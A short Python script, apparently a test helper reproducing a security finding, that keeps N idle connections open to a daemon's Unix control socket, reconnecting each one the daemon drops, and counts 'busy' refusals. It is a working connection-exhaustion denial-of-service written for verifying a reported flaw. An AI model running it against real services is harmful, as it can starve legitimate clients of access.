# The attack of issue 12, finding 4: hold N idle connections to the control socket, reconnecting
# each one the daemon closes, for SECONDS. Prints "ready" once N are open, then at the end a JSON
# summary: connections opened and "busy" refusals read.
import json
import select
import socket
import sys
import time

path, n, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
end = time.time() + seconds
conns, opened, busy, ready = [], 0, 0, False
while time.time() < end:
    while len(conns) < n:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            s.connect(path)
        except OSError:
            s.close()
            break
        opened += 1
        conns.append(s)
    if not ready and len(conns) >= n:
        print("ready", flush=True)
        ready = True
    readable, _, _ = select.select(conns, [], [], 0.2)
    for s in readable:
        try:
            data = s.recv(4096)
        except OSError:
            data = b""
        if b"busy" in data:
            busy += 1
        s.close()
        conns.remove(s)
    time.sleep(0.05)
print(json.dumps({"opened": opened, "busy": busy}), flush=True)
